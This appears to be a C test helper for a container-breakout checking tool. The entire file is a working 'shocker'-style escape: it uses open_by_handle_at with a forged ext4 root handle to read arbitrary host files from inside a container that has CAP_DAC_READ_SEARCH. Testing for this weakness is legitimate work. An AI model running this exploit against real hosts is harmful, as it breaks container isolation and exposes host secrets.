// SPDX-License-Identifier: MIT
/*
 * Test helper for dockeropenbreakout's case 2: from inside a container that
 * has a host file bind-mounted (and CAP_DAC_READ_SEARCH), opens the root
 * directory of that file's filesystem with open_by_handle_at (an ext4
 * handle for inode 2), then a file below it: a dentry outside the bind
 * mount's root. Built static so that it runs in any image.
 *
 * usage: shocker BIND_MOUNTED_FILE PATH_FROM_FS_ROOT
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct {
		struct file_handle fh;
		unsigned char bytes[MAX_HANDLE_SZ];
	} h;
	uint32_t ext4_root[2] = { 2, 0 };	/* inode 2, generation 0 */
	char buf[4096];
	int mount_fd, root, fd;
	ssize_t n;

	if (argc != 3) {
		fprintf(stderr, "usage: shocker BIND_MOUNTED_FILE PATH_FROM_FS_ROOT\n");
		return 2;
	}
	mount_fd = open(argv[1], O_RDONLY);
	if (mount_fd < 0) {
		perror(argv[1]);
		return 1;
	}
	h.fh.handle_bytes = sizeof(ext4_root);
	h.fh.handle_type = 1;	/* FILEID_INO32_GEN */
	memcpy(h.fh.f_handle, ext4_root, sizeof(ext4_root));
	root = open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_DIRECTORY);
	if (root < 0) {
		perror("open_by_handle_at");
		return 1;
	}
	fd = openat(root, argv[2], O_RDONLY);
	if (fd < 0) {
		perror(argv[2]);
		return 1;
	}
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, n, stdout);
	return 0;
}
